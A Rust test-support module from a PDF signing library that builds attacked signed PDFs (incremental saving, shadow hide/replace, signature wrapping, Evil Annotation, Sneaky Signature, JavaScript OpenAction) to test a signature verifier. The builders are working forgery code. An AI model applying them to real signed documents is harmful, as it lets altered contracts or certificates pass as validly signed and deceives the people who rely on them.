//! Attacked documents, for tests: each builder takes a PDF (usually one Kyso signed) and
//! returns it attacked, written with the crate's own incremental writer or, where the attack
//! needs bytes no honest writer produces, by hand in a few lines.
//!
//! The attack classes are those of the PDF signature studies that fooled most viewers:
//! - incremental saving (ISA, Mladenov et al. 2019): [`replace_page_content`];
//! - shadow attacks (Mainka et al. 2021), content placed in the document before it is signed
//!   and switched on after: *hide* ([`with_unreferenced_stream`] then [`reveal_on_page`]),
//!   *replace* ([`with_unlisted_object`] then [`repoint`]), *hide-and-replace*
//!   ([`with_shadow_document`] then [`switch_root`]);
//! - signature wrapping (SWA, 2019): content hidden in the unsigned `/Contents` gap and listed
//!   by a later cross-reference section ([`wrap_in_signature_gap`]);
//! - certification attacks (Mladenov et al. 2021): Evil Annotation ([`add_annotation`] on a
//!   document [`certify`]-ied with P=2), Sneaky Signature ([`add_signature_field`] with an
//!   appearance and no real signature), a second certification ([`certify`] twice).
//!
//! Public but hidden so that integration tests can build the same files; not part of the API.

use std::ops::Range;

use sha2::Digest as _;

use crate::cms::{self, CmsOptions};
use crate::pdf::{
    Dictionary, IncrementalUpdate, Object, ObjectId, PdfError, PdfFile, PdfString, serialize,
};
use crate::token::{DocumentSigner, HashAlgorithm};

/// Why an attacked document could not be built.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum AttackError {
    /// The PDF layer refused.
    #[error(transparent)]
    Pdf(#[from] PdfError),
    /// The CMS of a certification signature could not be made.
    #[error(transparent)]
    Cms(#[from] cms::CmsError),
    /// The document does not have the shape the attack needs.
    #[error("{0}")]
    Shape(&'static str),
}

/// Result of a builder.
pub type Result<T> = std::result::Result<T, AttackError>;

fn dict(entries: Vec<(&str, Object)>) -> Dictionary {
    entries.into_iter().collect()
}

fn name(n: &str) -> Object {
    Object::name(n)
}

fn text(s: &str) -> Object {
    Object::String(PdfString::literal(s.as_bytes().to_vec()))
}

fn rect(r: [i64; 4]) -> Object {
    Object::Array(r.iter().map(|&v| Object::Integer(v)).collect())
}

/// A form XObject that draws `label` in Helvetica: an appearance stream.
pub fn appearance(width: i64, height: i64, label: &str) -> (Dictionary, Vec<u8>) {
    let font = dict(vec![
        ("Type", name("Font")),
        ("Subtype", name("Type1")),
        ("BaseFont", name("Helvetica")),
    ]);
    let stream = dict(vec![
        ("Type", name("XObject")),
        ("Subtype", name("Form")),
        ("BBox", rect([0, 0, width, height])),
        (
            "Resources",
            dict(vec![("Font", dict(vec![("F1", font.into())]).into())]).into(),
        ),
    ]);
    let data = format!("BT /F1 12 Tf 4 4 Td ({label}) Tj ET\n").into_bytes();
    (stream, data)
}

/// Appends an incremental update that `build` fills in.
pub fn append_update(
    pdf: &[u8],
    build: impl FnOnce(&PdfFile, &mut IncrementalUpdate<'_>) -> Result<()>,
) -> Result<Vec<u8>> {
    let file = PdfFile::from_bytes(pdf.to_vec())?;
    let mut update = IncrementalUpdate::new(&file);
    build(&file, &mut update)?;
    let finished = update.finish()?;
    let mut out = pdf.to_vec();
    out.extend_from_slice(&finished.bytes);
    Ok(out)
}

/// Appends a cross-reference table and trailer that list `entries` (object, offset) and no
/// object of their own: the whole of a shadow attack's last update. `root` replaces the
/// trailer's `/Root`. Classic tables only (the files Kyso's fixtures and signer write).
pub fn append_xref_only(
    pdf: &[u8],
    entries: &[(ObjectId, u64)],
    root: Option<ObjectId>,
) -> Result<Vec<u8>> {
    let file = PdfFile::from_bytes(pdf.to_vec())?;
    if file.last_xref_kind() != crate::pdf::XrefKind::Table {
        return Err(AttackError::Shape(
            "xref-only updates are written as tables",
        ));
    }
    let mut out = pdf.to_vec();
    if !matches!(out.last(), Some(b'\n' | b'\r')) {
        out.push(b'\n');
    }
    let xref_offset = out.len();
    out.extend_from_slice(b"xref\n");
    let mut sorted = entries.to_vec();
    sorted.sort_by_key(|(id, _)| id.number);
    for (id, offset) in &sorted {
        out.extend_from_slice(
            format!("{} 1\n{offset:010} {:05} n\r\n", id.number, id.generation).as_bytes(),
        );
    }
    let mut trailer = Dictionary::new();
    let size = sorted
        .iter()
        .map(|(id, _)| id.number.saturating_add(1))
        .max()
        .unwrap_or(0)
        .max(file.next_object_number());
    trailer.insert("Size", Object::Integer(i64::from(size)));
    let root = root.unwrap_or(file.catalog_id());
    trailer.insert("Root", Object::Reference(root));
    for key in [&b"Info"[..], b"ID"] {
        if let Some(value) = file.trailer().get(key) {
            trailer.insert(key, value.clone());
        }
    }
    trailer.insert(
        "Prev",
        Object::Integer(i64::try_from(file.startxref()).unwrap_or(i64::MAX)),
    );
    out.extend_from_slice(b"trailer\n");
    serialize(&Object::Dictionary(trailer), &mut out);
    out.extend_from_slice(format!("\nstartxref\n{xref_offset}\n%%EOF\n").as_bytes());
    Ok(out)
}

/// `N G obj … endobj` for a stream.
fn stream_bytes(id: ObjectId, mut stream: Dictionary, data: &[u8]) -> Vec<u8> {
    stream.insert("Length", Object::Integer(data.len() as i64));
    let mut out = format!("{} {} obj\n", id.number, id.generation).into_bytes();
    serialize(&Object::Dictionary(stream), &mut out);
    out.extend_from_slice(b"\nstream\n");
    out.extend_from_slice(data);
    out.extend_from_slice(b"\nendstream\nendobj\n");
    out
}

/// Writes a second body for object `id` (a stream) into the file's bytes without listing it in
/// any cross-reference section, then closes the revision with a harmless update (the catalog
/// rewritten as it is). Returns the bytes and the offset of the unlisted body: signed, it waits
/// for a later cross-reference section to point at it (shadow *replace*).
pub fn with_unlisted_object(
    pdf: &[u8],
    id: ObjectId,
    stream: Dictionary,
    data: &[u8],
) -> Result<(Vec<u8>, u64)> {
    let mut out = pdf.to_vec();
    if !matches!(out.last(), Some(b'\n' | b'\r')) {
        out.push(b'\n');
    }
    let offset = out.len() as u64;
    out.extend_from_slice(&stream_bytes(id, stream, data));
    let out = append_update(&out, |file, update| {
        update.put(file.catalog_id(), Object::Dictionary(file.catalog()?));
        Ok(())
    })?;
    Ok((out, offset))
}

/// Adds a stream that the cross-reference data lists but nothing refers to: invisible when
/// signed (shadow *hide*).
pub fn with_unreferenced_stream(
    pdf: &[u8],
    stream: Dictionary,
    data: &[u8],
) -> Result<(Vec<u8>, ObjectId)> {
    let mut id = None;
    let out = append_update(pdf, |_, update| {
        let new = update.allocate()?;
        update.put_stream(new, stream, data.to_vec());
        id = Some(new);
        Ok(())
    })?;
    Ok((out, id.ok_or(AttackError::Shape("no object allocated"))?))
}

/// Adds, unreferenced, a whole second document (catalog, page tree, one page showing `label`,
/// its content and font): the hidden half of a shadow *hide-and-replace*. Returns the bytes and
/// the second catalog.
pub fn with_shadow_document(pdf: &[u8], label: &str) -> Result<(Vec<u8>, ObjectId)> {
    let mut catalog = None;
    let out = append_update(pdf, |_, update| {
        let [c, pages, page, content, font] = [(); 5].map(|_| update.allocate());
        let (c, pages, page, content, font) = (c?, pages?, page?, content?, font?);
        update.put(
            font,
            dict(vec![
                ("Type", name("Font")),
                ("Subtype", name("Type1")),
                ("BaseFont", name("Helvetica")),
            ])
            .into(),
        );
        update.put_stream(
            content,
            Dictionary::new(),
            format!("BT /F1 24 Tf 72 720 Td ({label}) Tj ET\n").into_bytes(),
        );
        update.put(
            page,
            dict(vec![
                ("Type", name("Page")),
                ("Parent", pages.into()),
                ("MediaBox", rect([0, 0, 595, 842])),
                (
                    "Resources",
                    dict(vec![("Font", dict(vec![("F1", font.into())]).into())]).into(),
                ),
                ("Contents", content.into()),
            ])
            .into(),
        );
        update.put(
            pages,
            dict(vec![
                ("Type", name("Pages")),
                ("Kids", Object::Array(vec![page.into()])),
                ("Count", Object::Integer(1)),
            ])
            .into(),
        );
        update.put(
            c,
            dict(vec![("Type", name("Catalog")), ("Pages", pages.into())]).into(),
        );
        catalog = Some(c);
        Ok(())
    })?;
    Ok((
        out,
        catalog.ok_or(AttackError::Shape("no catalog allocated"))?,
    ))
}

/// Incremental saving attack: the content stream of page `page` (0-based) is overwritten in a
/// new update.
pub fn replace_page_content(pdf: &[u8], page: i64, content: &[u8]) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let page = file.page(page)?;
        let target = match page.dict.get(b"Contents") {
            Some(Object::Reference(id)) => *id,
            Some(Object::Array(items)) => items
                .iter()
                .find_map(Object::as_reference)
                .ok_or(AttackError::Shape("page without content streams"))?,
            _ => return Err(AttackError::Shape("page without content streams")),
        };
        update.put_stream(target, Dictionary::new(), content.to_vec());
        Ok(())
    })
}

/// Shadow *hide-and-replace* in its most thorough form: a complete new cross-reference table
/// with no `/Prev`, so that the signed revision's cross-reference data is not even read any
/// more; the streams in `replaced` get new bodies. Classic, uncompressed files only.
pub fn rewrite_cross_reference(pdf: &[u8], replaced: &[(ObjectId, Vec<u8>)]) -> Result<Vec<u8>> {
    let file = PdfFile::from_bytes(pdf.to_vec())?;
    let mut offsets = std::collections::BTreeMap::new();
    for (number, entry) in file.xref_entries() {
        match entry {
            crate::pdf::XrefEntry::InFile { offset, generation } => {
                offsets.insert(number, (offset, generation));
            }
            crate::pdf::XrefEntry::Free { .. } => {}
            crate::pdf::XrefEntry::Compressed { .. } => {
                return Err(AttackError::Shape("compressed objects are not rewritten"));
            }
        }
    }
    let mut out = pdf.to_vec();
    if !matches!(out.last(), Some(b'\n' | b'\r')) {
        out.push(b'\n');
    }
    for (id, data) in replaced {
        offsets.insert(id.number, (out.len() as u64, id.generation));
        out.extend_from_slice(&stream_bytes(*id, Dictionary::new(), data));
    }
    let size = offsets.keys().next_back().map_or(1, |n| n + 1);
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {size}\n").as_bytes());
    for number in 0..size {
        match offsets.get(&number) {
            Some((offset, generation)) => {
                out.extend_from_slice(format!("{offset:010} {generation:05} n\r\n").as_bytes())
            }
            None => out.extend_from_slice(b"0000000000 65535 f\r\n"),
        }
    }
    let mut trailer = Dictionary::new();
    trailer.insert("Size", Object::Integer(i64::from(size)));
    for key in [&b"Root"[..], b"Info", b"ID"] {
        if let Some(value) = file.trailer().get(key) {
            trailer.insert(key, value.clone());
        }
    }
    out.extend_from_slice(b"trailer\n");
    serialize(&Object::Dictionary(trailer), &mut out);
    out.extend_from_slice(format!("\nstartxref\n{xref}\n%%EOF\n").as_bytes());
    Ok(out)
}

/// Shadow *hide*, revealed: page `page` now also draws `hidden`, an object that was in the
/// signed document but unreferenced.
pub fn reveal_on_page(pdf: &[u8], page: i64, hidden: ObjectId) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let page = file.page(page)?;
        let mut contents = match page.dict.get(b"Contents") {
            Some(Object::Array(items)) => items.clone(),
            Some(other) => vec![other.clone()],
            None => Vec::new(),
        };
        contents.push(hidden.into());
        let mut dict = page.dict.clone();
        dict.insert("Contents", Object::Array(contents));
        update.put(page.id, dict.into());
        Ok(())
    })
}

/// Shadow *replace*, switched on: a cross-reference section alone points `id` at `offset`.
pub fn repoint(pdf: &[u8], id: ObjectId, offset: u64) -> Result<Vec<u8>> {
    append_xref_only(pdf, &[(id, offset)], None)
}

/// Shadow *hide-and-replace*, switched on: a cross-reference section alone makes `catalog`
/// the document's root.
pub fn switch_root(pdf: &[u8], catalog: ObjectId) -> Result<Vec<u8>> {
    append_xref_only(pdf, &[], Some(catalog))
}

/// Signature wrapping: the signature's `/Contents` gap (`gap`, from `<` to `>`, not covered by
/// the signature) is rewritten to hold the real CMS, then a string that hides a new body for
/// object `id` (a content stream drawing `label`); a later cross-reference section points `id`
/// there. Everything the ByteRange covers is untouched. Returns the bytes and the hidden
/// body's offset.
pub fn wrap_in_signature_gap(
    signed: &[u8],
    gap: Range<u64>,
    id: ObjectId,
    label: &str,
) -> Result<(Vec<u8>, u64)> {
    let (start, end) = (
        usize::try_from(gap.start).map_err(|_| AttackError::Shape("gap"))?,
        usize::try_from(gap.end).map_err(|_| AttackError::Shape("gap"))?,
    );
    let hex = signed
        .get(start + 1..end.saturating_sub(1))
        .ok_or(AttackError::Shape("gap outside the file"))?;
    let cms = hex::decode(hex).map_err(|_| AttackError::Shape("/Contents is not hex"))?;
    let cms_len = der_length(&cms)
        .filter(|&len| len <= cms.len())
        .ok_or(AttackError::Shape("/Contents is not DER"))?;
    let mut gap_bytes = format!("<{}>", hex::encode_upper(&cms[..cms_len])).into_bytes();
    gap_bytes.extend_from_slice(b" /Kyso.Wrapped (");
    let body_at = start + gap_bytes.len();
    gap_bytes.extend_from_slice(&stream_bytes(
        id,
        Dictionary::new(),
        format!("BT /F1 24 Tf 72 720 Td ({label}) Tj ET").as_bytes(),
    ));
    gap_bytes.push(b')');
    if gap_bytes.len() > end - start {
        return Err(AttackError::Shape("the gap is too small"));
    }
    gap_bytes.resize(end - start, b' ');
    let mut out = signed.to_vec();
    out[start..end].copy_from_slice(&gap_bytes);
    let out = append_xref_only(&out, &[(id, body_at as u64)], None)?;
    Ok((out, body_at as u64))
}

/// The length of the DER value at the start of `bytes` (tag, length, contents).
fn der_length(bytes: &[u8]) -> Option<usize> {
    let first = *bytes.get(1)?;
    if first < 0x80 {
        return Some(2 + usize::from(first));
    }
    let count = usize::from(first & 0x7f);
    if count == 0 || count > 4 {
        return None;
    }
    let len = bytes
        .get(2..2 + count)?
        .iter()
        .fold(0usize, |acc, &b| acc << 8 | usize::from(b));
    Some(2 + count + len)
}

/// Adds `item` to the page's `/Annots` (direct, indirect or absent).
fn push_annotation(
    file: &PdfFile,
    update: &mut IncrementalUpdate<'_>,
    page: ObjectId,
    item: ObjectId,
) -> Result<()> {
    let Object::Dictionary(mut page_dict) = update.current(page)? else {
        return Err(AttackError::Shape("page is not a dictionary"));
    };
    match page_dict.get(b"Annots").cloned() {
        Some(Object::Reference(array)) => {
            let Object::Array(mut items) = file.get(array)? else {
                return Err(AttackError::Shape("/Annots is not an array"));
            };
            items.push(item.into());
            update.put(array, Object::Array(items));
        }
        Some(Object::Array(mut items)) => {
            items.push(item.into());
            page_dict.insert("Annots", Object::Array(items));
            update.put(page, page_dict.into());
        }
        _ => {
            page_dict.insert("Annots", Object::Array(vec![item.into()]));
            update.put(page, page_dict.into());
        }
    }
    Ok(())
}

/// Adds `field` to `/AcroForm /Fields`, creating the form when absent.
fn push_field(file: &PdfFile, update: &mut IncrementalUpdate<'_>, field: ObjectId) -> Result<()> {
    let catalog_id = file.catalog_id();
    let Object::Dictionary(mut catalog) = update.current(catalog_id)? else {
        return Err(AttackError::Shape("catalog is not a dictionary"));
    };
    let add = |form: &mut Dictionary| -> Result<()> {
        match form.get(b"Fields").cloned() {
            Some(Object::Reference(array)) => {
                let Object::Array(mut items) = file.get(array)? else {
                    return Err(AttackError::Shape("/Fields is not an array"));
                };
                items.push(field.into());
                form.insert("Fields", Object::Array(items));
            }
            Some(Object::Array(mut items)) => {
                items.push(field.into());
                form.insert("Fields", Object::Array(items));
            }
            _ => {
                form.insert("Fields", Object::Array(vec![field.into()]));
            }
        }
        Ok(())
    };
    match catalog.get(b"AcroForm").cloned() {
        Some(Object::Reference(form_id)) => {
            let Object::Dictionary(mut form) = update.current(form_id)? else {
                return Err(AttackError::Shape("/AcroForm is not a dictionary"));
            };
            add(&mut form)?;
            update.put(form_id, form.into());
        }
        Some(Object::Dictionary(mut form)) => {
            add(&mut form)?;
            catalog.insert("AcroForm", form.into());
            update.put(catalog_id, catalog.into());
        }
        _ => {
            let mut form = Dictionary::new();
            add(&mut form)?;
            let form_id = update.allocate()?;
            update.put(form_id, form.into());
            catalog.insert("AcroForm", form_id.into());
            update.put(catalog_id, catalog.into());
        }
    }
    Ok(())
}

/// Adds an annotation of `subtype` (`FreeText`, `Stamp`, `Square` …) to page `page` (0-based),
/// with an appearance that draws `label` over `area`.
pub fn add_annotation(
    pdf: &[u8],
    page: i64,
    subtype: &str,
    area: [i64; 4],
    label: &str,
) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let page = file.page(page)?;
        let (ap_dict, ap_data) = appearance(area[2] - area[0], area[3] - area[1], label);
        let ap = update.allocate()?;
        update.put_stream(ap, ap_dict, ap_data);
        let annot = update.allocate()?;
        update.put(
            annot,
            dict(vec![
                ("Type", name("Annot")),
                ("Subtype", name(subtype)),
                ("Rect", rect(area)),
                ("Contents", text(label)),
                ("P", page.id.into()),
                ("AP", dict(vec![("N", ap.into())]).into()),
            ])
            .into(),
        );
        push_annotation(file, update, page.id, annot)
    })
}

/// Lists the existing object `annotation` in page `page`'s `/Annots` (0-based): with an
/// annotation that was in the signed file but on no page, the shadow *hide* variant that goes
/// through the one structure approval-only documents let grow.
pub fn list_annotation(pdf: &[u8], page: i64, annotation: ObjectId) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let page = file.page(page)?;
        push_annotation(file, update, page.id, annotation)
    })
}

/// Adds a signature field named `field` with a widget on page `page` (0-based) at `area`;
/// with `label`, the widget gets an appearance drawing it; `value` becomes its `/V` (none: an
/// empty field). With an appearance and no real signature, this is the Sneaky Signature.
pub fn add_signature_field(
    pdf: &[u8],
    page: i64,
    field: &str,
    area: [i64; 4],
    label: Option<&str>,
    value: Option<Object>,
) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let page = file.page(page)?;
        let widget = update.allocate()?;
        let mut entries = dict(vec![
            ("Type", name("Annot")),
            ("Subtype", name("Widget")),
            ("FT", name("Sig")),
            ("T", text(field)),
            ("F", Object::Integer(4)),
            ("Rect", rect(area)),
            ("P", page.id.into()),
        ]);
        if let Some(label) = label {
            let (ap_dict, ap_data) = appearance(area[2] - area[0], area[3] - area[1], label);
            let ap = update.allocate()?;
            update.put_stream(ap, ap_dict, ap_data);
            entries.insert("AP", dict(vec![("N", ap.into())]).into());
        }
        if let Some(value) = value {
            let value_id = update.allocate()?;
            update.put(value_id, value);
            entries.insert("V", value_id.into());
        }
        update.put(widget, entries.into());
        push_annotation(file, update, page.id, widget)?;
        push_field(file, update, widget)
    })
}

/// Adds a text field `field` with value `value` on page `page` (0-based): a form to fill in.
pub fn add_text_field(pdf: &[u8], page: i64, field: &str, value: &str) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let page = file.page(page)?;
        let area = [72, 600, 372, 630];
        let (ap_dict, ap_data) = appearance(300, 30, value);
        let ap = update.allocate()?;
        update.put_stream(ap, ap_dict, ap_data);
        let widget = update.allocate()?;
        update.put(
            widget,
            dict(vec![
                ("Type", name("Annot")),
                ("Subtype", name("Widget")),
                ("FT", name("Tx")),
                ("T", text(field)),
                ("V", text(value)),
                ("F", Object::Integer(4)),
                ("Rect", rect(area)),
                ("P", page.id.into()),
                ("AP", dict(vec![("N", ap.into())]).into()),
            ])
            .into(),
        );
        push_annotation(file, update, page.id, widget)?;
        push_field(file, update, widget)
    })
}

/// Fills in the text field `field` (a merged field and widget) with `value` and a new
/// appearance: form filling.
pub fn fill_text_field(pdf: &[u8], field: &str, value: &str) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let form = file
            .acroform()?
            .ok_or(AttackError::Shape("no form to fill"))?;
        let fields = match form.get(b"Fields").map(|f| file.resolve(f)) {
            Some(Ok(Object::Array(items))) => items,
            _ => return Err(AttackError::Shape("no /Fields")),
        };
        let target = fields
            .iter()
            .filter_map(Object::as_reference)
            .find(|&id| {
                matches!(file.get(id), Ok(Object::Dictionary(d))
                    if d.get(b"T").and_then(Object::as_string).map(|s| s.bytes.as_slice())
                        == Some(field.as_bytes()))
            })
            .ok_or(AttackError::Shape("no such field"))?;
        let Object::Dictionary(mut field_dict) = file.get(target)? else {
            return Err(AttackError::Shape("field is not a dictionary"));
        };
        let (ap_dict, ap_data) = appearance(300, 30, value);
        let ap = update.allocate()?;
        update.put_stream(ap, ap_dict, ap_data);
        field_dict.insert("V", text(value));
        field_dict.insert("AP", dict(vec![("N", ap.into())]).into());
        update.put(target, field_dict.into());
        Ok(())
    })
}

/// Adds a Document Security Store with these certificates (ETSI EN 319 142-1 §5.4.2).
pub fn add_dss(pdf: &[u8], certificates: &[Vec<u8>]) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let mut certs = Vec::new();
        for der in certificates {
            let id = update.allocate()?;
            update.put_stream(id, Dictionary::new(), der.clone());
            certs.push(Object::Reference(id));
        }
        let dss = update.allocate()?;
        update.put(
            dss,
            dict(vec![("Type", name("DSS")), ("Certs", Object::Array(certs))]).into(),
        );
        let Object::Dictionary(mut catalog) = update.current(file.catalog_id())? else {
            return Err(AttackError::Shape("catalog is not a dictionary"));
        };
        catalog.insert("DSS", dss.into());
        update.put(file.catalog_id(), catalog.into());
        Ok(())
    })
}

/// Adds a page (a copy of the last page's dictionary with new content): pages changed.
pub fn add_page(pdf: &[u8], label: &str) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let last = file.page(-1)?;
        let parent = last
            .dict
            .get(b"Parent")
            .and_then(Object::as_reference)
            .ok_or(AttackError::Shape("page without parent"))?;
        let Object::Dictionary(mut node) = file.get(parent)? else {
            return Err(AttackError::Shape("page tree node is not a dictionary"));
        };
        let content = update.allocate()?;
        update.put_stream(
            content,
            Dictionary::new(),
            format!("BT /F1 24 Tf 72 720 Td ({label}) Tj ET\n").into_bytes(),
        );
        let page = update.allocate()?;
        let mut page_dict = last.dict.clone();
        page_dict.insert("Contents", content.into());
        page_dict.remove(b"Annots");
        update.put(page, page_dict.into());
        let mut kids = match node.get(b"Kids").map(|k| file.resolve(k)) {
            Some(Ok(Object::Array(items))) => items,
            _ => return Err(AttackError::Shape("page tree node without kids")),
        };
        kids.push(page.into());
        let count = node.get_integer(b"Count").unwrap_or(0) + 1;
        node.insert("Kids", Object::Array(kids));
        node.insert("Count", Object::Integer(count));
        update.put(parent, node.into());
        Ok(())
    })
}

/// Sets the catalog's `/OpenAction` to a JavaScript action: a catalog entry changed.
pub fn set_open_action(pdf: &[u8], script: &str) -> Result<Vec<u8>> {
    append_update(pdf, |file, update| {
        let action = update.allocate()?;
        update.put(
            action,
            dict(vec![("S", name("JavaScript")), ("JS", text(script))]).into(),
        );
        let Object::Dictionary(mut catalog) = update.current(file.catalog_id())? else {
            return Err(AttackError::Shape("catalog is not a dictionary"));
        };
        catalog.insert("OpenAction", action.into());
        update.put(file.catalog_id(), catalog.into());
        Ok(())
    })
}

/// Appends bytes after the last `%%EOF`.
pub fn append_bytes(pdf: &[u8], bytes: &[u8]) -> Vec<u8> {
    let mut out = pdf.to_vec();
    out.extend_from_slice(bytes);
    out
}

/// Certifies `pdf` (ISO 32000-1 §12.8.2.2): an invisible signature field on the first page
/// whose signature dictionary carries a DocMDP transform with permission `p`, referenced from
/// the catalog's `/Perms /DocMDP`, signed with `signer` (a real PAdES CMS).
pub fn certify(pdf: &[u8], signer: &dyn DocumentSigner, p: u8) -> Result<Vec<u8>> {
    const CONTENTS_LEN: usize = 8 << 10;
    let file = PdfFile::from_bytes(pdf.to_vec())?;
    let mut update = IncrementalUpdate::new(&file);
    let page = file.page(0)?;
    let signature = update.allocate()?;
    let widget = update.allocate()?;
    let reference = dict(vec![
        ("Type", name("SigRef")),
        ("TransformMethod", name("DocMDP")),
        (
            "TransformParams",
            dict(vec![
                ("Type", name("TransformParams")),
                ("P", Object::Integer(i64::from(p))),
                ("V", name("1.2")),
            ])
            .into(),
        ),
    ]);
    update.put_signature_dictionary(
        signature,
        dict(vec![
            ("Type", name("Sig")),
            ("Filter", name("Adobe.PPKLite")),
            ("SubFilter", name("ETSI.CAdES.detached")),
            ("Reference", Object::Array(vec![reference.into()])),
        ]),
        CONTENTS_LEN,
    )?;
    let field_name = format!("Certification{}", signature.number);
    update.put(
        widget,
        dict(vec![
            ("Type", name("Annot")),
            ("Subtype", name("Widget")),
            ("FT", name("Sig")),
            ("T", text(&field_name)),
            ("V", signature.into()),
            ("F", Object::Integer(132)),
            ("Rect", rect([0, 0, 0, 0])),
            ("P", page.id.into()),
        ])
        .into(),
    );
    push_annotation(&file, &mut update, page.id, widget)?;
    push_field(&file, &mut update, widget)?;
    let Object::Dictionary(mut catalog) = update.current(file.catalog_id())? else {
        return Err(AttackError::Shape("catalog is not a dictionary"));
    };
    catalog.insert("Perms", dict(vec![("DocMDP", signature.into())]).into());
    update.put(file.catalog_id(), catalog.into());
    let mut finished = update.finish()?;
    finished.fill_byte_range()?;
    let digest = {
        let [before, after] = finished.signed_parts()?;
        document_digest(signer.scheme().hash(), &[pdf, before, after])
    };
    let capacity = finished
        .signature
        .as_ref()
        .map_or(0, |s| s.contents_capacity());
    let options = CmsOptions {
        max_len: Some(capacity),
        ..CmsOptions::default()
    };
    let container = cms::build_signed_data(signer, &digest, &options)?;
    finished.fill_contents(&container)?;
    let mut out = pdf.to_vec();
    out.extend_from_slice(&finished.bytes);
    Ok(out)
}

/// The digest of the covered parts with the signer's hash.
fn document_digest(hash: HashAlgorithm, parts: &[&[u8]]) -> Vec<u8> {
    match hash {
        HashAlgorithm::Sha256 => {
            let mut h = sha2::Sha256::new();
            parts.iter().for_each(|p| h.update(p));
            h.finalize().to_vec()
        }
        HashAlgorithm::Sha384 => {
            let mut h = sha2::Sha384::new();
            parts.iter().for_each(|p| h.update(p));
            h.finalize().to_vec()
        }
        HashAlgorithm::Sha512 => {
            let mut h = sha2::Sha512::new();
            parts.iter().for_each(|p| h.update(p));
            h.finalize().to_vec()
        }
    }
}
